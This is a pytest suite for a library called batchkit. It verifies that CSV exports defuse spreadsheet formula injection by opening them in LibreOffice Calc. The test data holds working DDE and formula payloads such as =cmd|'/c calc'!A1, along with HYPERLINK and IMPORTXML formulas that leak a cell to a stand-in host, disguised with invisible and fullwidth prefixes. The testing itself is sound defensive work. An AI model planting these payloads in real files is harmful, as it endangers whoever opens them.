"""What batchkit exports, opened by a real spreadsheet: whatever stood in a file or came from a server, none of it
runs and nothing of it is lost.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from itertools import zip_longest
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest

import batchkit as bk
from batchkit.core.execution import ExecutionOutcome, ExecutionStatus
from batchkit.core.outcome import Outcome, Refused, Triggered
from batchkit.core.request import TriggerRequest
from batchkit.io.exports import neutralize, restore
from batchkit.testing import ScriptedTarget

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.org/?leak="&A1,"Click here")',
    '=IMPORTXML(CONCAT("http://example.org/?",A1),"//a")',
    '=DDE("cmd";"/c calc";"x")',
    '=WEBSERVICE("http://example.org")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=1+1\n=2+2",
    '="a""b"&"c,d;e"',
    "=\u202e1+1",
)
#: put before a formula, some spreadsheets look past them
PREFIXES = ("", " ", "   ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", "\x1f", "'", "''", "\t \n")
HARMLESS = (
    "plain",
    "a = b",
    "a\n=1+1",
    '"quoted", and; more',
    "'",
    "it's",
    "Ünïcödé 😀 日本語",
    "a\tb",
    "two  spaces",
    "trailing ",
    "line\nbreak",
    "x" * 3000,
)
NAUGHTY = (*(prefix + formula for prefix in PREFIXES for formula in FORMULAS), *HARMLESS)
NUMBERS = ("-1", "+49 30 123-456", "-12.5%", "1e-3", "-", "+", "--1", "12,5")

#: what XML cannot hold, and so no OpenDocument file
_UNSHOWABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


@pytest.fixture(scope="module")
def soffice() -> str:
    program = shutil.which("soffice")
    if program is None:
        assert not os.environ.get("CI"), "apt-get install --no-install-recommends libreoffice-calc"
        pytest.skip("opens exports in LibreOffice Calc, which is not installed")
    return program


class Sheet:
    """A CSV file as LibreOffice Calc has read it, with what it does when a person opens the file."""

    def __init__(self, path: Path) -> None:
        tree = ElementTree.parse(path)
        self.formulas = [cell.get(f"{_TABLE}formula") for cell in tree.iter() if cell.get(f"{_TABLE}formula")]
        #: texts by row and column; None: taken for a number or a date
        self.rows = [row for element in tree.iter(f"{_TABLE}table-row") for row in _repeated(element, _cells(element))]


def _repeated(element: ElementTree.Element, value: object, of: str = "rows") -> list[object]:
    count = int(element.get(f"{_TABLE}number-{of}-repeated", "1"))
    # the empty rest of the sheet is one cell, repeated
    return [value] * (count if count < 1000 else 0)


def _cells(row: ElementTree.Element) -> list[object]:
    return [each for cell in row for each in _repeated(cell, _content(cell), "columns")]


def _content(cell: ElementTree.Element) -> str | None:
    if cell.get(f"{_OFFICE}value-type", "string") != "string":
        return None
    return "\n".join("".join(_pieces(paragraph)) for paragraph in cell.findall(f"{_TEXT}p"))


def _pieces(element: ElementTree.Element) -> Iterator[str]:
    yield element.text or ""
    for child in element:
        match child.tag.removeprefix(_TEXT):
            case "s":
                yield " " * int(child.get(f"{_TEXT}c", "1"))
            case "tab":
                yield "\t"
            case "line-break":
                yield "\n"
            case _:
                yield from _pieces(child)
        yield child.tail or ""


def opened(soffice: str, files: list[Path]) -> list[Sheet]:
    """The files as LibreOffice reads them, in one start of it."""
    folder = files[0].parent
    profile = (folder / "profile").as_uri()
    # comma, double quote, UTF-8, from the first line; numbers are recognized and formulas evaluated
    reading = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    command = [soffice, "--headless", "--norestore", f"-env:UserInstallation={profile}", f"--infilter={reading}"]
    command += ["--convert-to", "fods", "--outdir", str(folder / "opened"), *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=300)
    assert done.returncode == 0, done.stderr
    return [Sheet(folder / "opened" / f"{file.stem}.fods") for file in files]


def text_of(value: object) -> str:
    return json.dumps(value, ensure_ascii=False) if isinstance(value, dict | list) else str(value)


def shown(text: str) -> str:
    """A cell's text as Calc can show it: no control characters, one kind of line end, no tabs in several lines."""
    text = _UNSHOWABLE.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
    return text.replace("\t", "") if "\n" in text else text


def answer(request: TriggerRequest, number: int, target: ScriptedTarget) -> Outcome:
    """What a hostile server says, in every field it has."""
    text = NAUGHTY[number % len(NAUGHTY)]
    if number % 3 == 0:
        return Refused(code="400", message=text)
    execution = target.accept(request)
    said = replace(
        execution,
        status=ExecutionStatus.FAILED if number % 3 == 1 else ExecutionStatus.COMPLETED,
        outcome=ExecutionOutcome.FAILURE if number % 3 == 1 else ExecutionOutcome.SUCCESS,
        result=text if number % 2 else {text: [text]},
        error=text,
        reasoning=text,
        url=f"https://example.org/{number}",
        profile_name=text,
    )
    return Triggered(execution=said)


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, pd.DataFrame]:
    """Everything there is to export of a batch whose file, agent and server are hostile."""
    folder = tmp_path_factory.mktemp("runs")
    names = [text for text in dict.fromkeys(map(str.strip, FORMULAS)) if "\n" not in text]
    rows = [*NAUGHTY, *NUMBERS]
    table = bk.read_csv(
        pd.DataFrame(dict.fromkeys(["value", *names], rows) | {"count": [*["1"] * len(rows[1:]), "=2"]})
    )
    inputs = [bk.InputVariable("value"), bk.InputVariable("count", schema={"type": "integer"})]
    target = ScriptedTarget([bk.Agent(name="=1+1", id="a", inputs=inputs)])
    target.answer = lambda request, number: answer(request, number, target)
    with bk.Workspace(target, store=folder / "runs.sqlite") as ws:
        agent = ws.agent()
        mapping = ws.suggest_mapping(table, agent)
        for number, name in enumerate(names):
            mapping = mapping.set(name, bk.Metadata(f"=key{number}") if number % 2 else bk.Skip())
        checked = ws.validate(table, mapping, agent, invalid="drop")
        batch = ws.create_batch(checked, bk.BatchConfig(name="=1+1", max_concurrent=50, batch_interval=0))
        batch.join("finished")
        return {
            "results": batch.results(dropped=True),
            "items": batch.items(),
            "events": batch.events(),
            "issues": checked.issues,
            "rows": table.frame,
        }


def test_no_cell_of_an_export_runs_and_none_is_changed(
    soffice: str, exports: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    files = [tmp_path / f"{name}.csv" for name in exports]
    for frame, file in zip(exports.values(), files, strict=True):
        bk.write_csv(frame, file)
    plain = tmp_path / "plain.csv"
    exports["rows"].to_csv(plain, index=False)
    *sheets, unprotected = opened(soffice, [*files, plain])
    assert len(unprotected.formulas) > len(FORMULAS)
    for (name, frame), sheet in zip(exports.items(), sheets, strict=True):
        assert sheet.formulas == []
        header, *rows = sheet.rows
        assert header == [shown(neutralize(column)) for column in frame.columns], name
        assert len(rows) == len(frame), name
        for (_, expected), row in zip(frame.astype(object).where(frame.notna(), "").iterrows(), rows, strict=True):
            texts = [shown(neutralize(text_of(value))) for value in expected]
            assert [
                (got, text) for got, text in zip_longest(row, texts, fillvalue="") if got not in (None, text)
            ] == [], name


def test_no_cell_of_an_export_begins_as_a_formula_does_in_any_spreadsheet(
    exports: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    begins = re.compile(r"[\s\x00-\x1f\x7f\u200b\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
    harmless = re.compile(r"[\s\x00-\x1f\x7f\u200b\ufeff]*[+\-][0-9 ().\-/,]*(?:[eE][+\-]?[0-9]+|%)?")
    for name, frame in exports.items():
        file = tmp_path / f"{name}.csv"
        bk.write_csv(frame, file)
        with file.open(encoding="utf-8-sig", newline="") as lines:
            texts = [text for row in csv.reader(lines) for text in row]
        assert [text for text in texts if begins.match(text) and not harmless.fullmatch(text)] == [], name


def test_the_rows_of_an_export_come_back_as_they_were(exports: dict[str, pd.DataFrame], tmp_path: Path) -> None:
    file = tmp_path / "rows.csv"
    bk.write_csv(exports["rows"], file)
    back = bk.read_csv(file).frame
    assert [restore(name) for name in back.columns] == list(exports["rows"].columns)
    assert back.map(restore).to_numpy().tolist() == exports["rows"].to_numpy().tolist()
